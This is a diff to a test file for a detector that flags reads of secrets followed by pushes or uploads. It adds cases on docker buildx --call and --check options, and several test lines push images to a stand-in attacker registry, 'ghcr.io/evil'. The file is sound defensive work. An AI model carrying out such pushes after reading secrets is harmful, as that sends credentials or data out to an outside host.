@@ -1,9 +1,10 @@
 /**
- * git options read with the wrong arity (detection gaps listed after session 16): `git push
+ * Options read with the wrong arity or meaning (detection gaps listed after session 16): `git push
  * --recurse-submodules check URL` took `check` for the remote (git takes it for the option's value), `git push
- * --repo URL` named no destination though git pushes there, and standalone `git-lfs push -ad` (pflag's bundle
- * of `--all` and `--dry-run`) was a push; and `gcloud app deploy --image-url` (a built image: gcloud uploads
- * no file) was a push. Each from Tetragon and Falco events alike.
+ * --repo URL` named no destination though git pushes there, standalone `git-lfs push -ad` (pflag's bundle of
+ * `--all` and `--dry-run`) was a push, and two commands that upload nothing were pushes: `gcloud app deploy
+ * --image-url` (a built image: gcloud uploads no file) and buildx's `--call check|outline|targets` (the build's
+ * checks or a listing, nothing built) with `--push`. Each from Tetragon and Falco events alike.
  */
 import { describe, expect, it } from 'vitest';
 import { PUSH_IP as IP, secretThenPush } from './secret-then-push.js';
@@ -76,6 +77,35 @@ describe('option values read as the tools read them', () => {
         expect(afterSecret('/usr/bin/gcloud', args, source), args).toEqual([]);
       expect(afterSecret('/usr/bin/gcloud', 'app deploy app.yaml --quiet', source)).toEqual([
         { rule: 'sensitive-read-then-push', tool: 'gcloud', destination: 'storage.googleapis.com', remote: 'app.yaml' },
+      ]);
+    });
+
+    it(`buildx --call other than build pushes nothing, with --push too (${source})`, () => {
+      for (const [binary, args] of [
+        ['/usr/bin/docker', 'buildx build --call check --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --call=outline --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'build --check --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --call=check,format=json --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx bake --call check --push'],
+        ['/usr/bin/docker', 'buildx bake --call targets --push'],
+        ['/usr/bin/docker', 'buildx bake --check --push'],
+        ['/usr/bin/docker', 'buildx build --call check --cache-to type=registry,ref=ghcr.io/evil/c .'],
+        ['/usr/local/bin/docker-buildx', 'bake --call=outline --push'],
+        ['/usr/local/bin/docker-buildx', 'build --check --push -t ghcr.io/evil/x:1 .'],
+      ] as const)
+        expect(afterSecret(binary, args, source), args).toEqual([]);
+      for (const [binary, args] of [
+        ['/usr/bin/docker', 'buildx build --call build --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --check --call build --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --check=false --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --call= --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/local/bin/docker-buildx', 'build --call check --call build --push -t ghcr.io/evil/x:1 .'],
+      ] as const)
+        expect(afterSecret(binary, args, source), args).toMatchObject([
+          { rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/x:1' },
+        ]);
+      expect(afterSecret('/usr/bin/docker', 'buildx bake --call build --push', source)).toMatchObject([
+        { rule: 'sensitive-read-then-push', tool: 'docker', remote: null },
       ]);
     });
   }
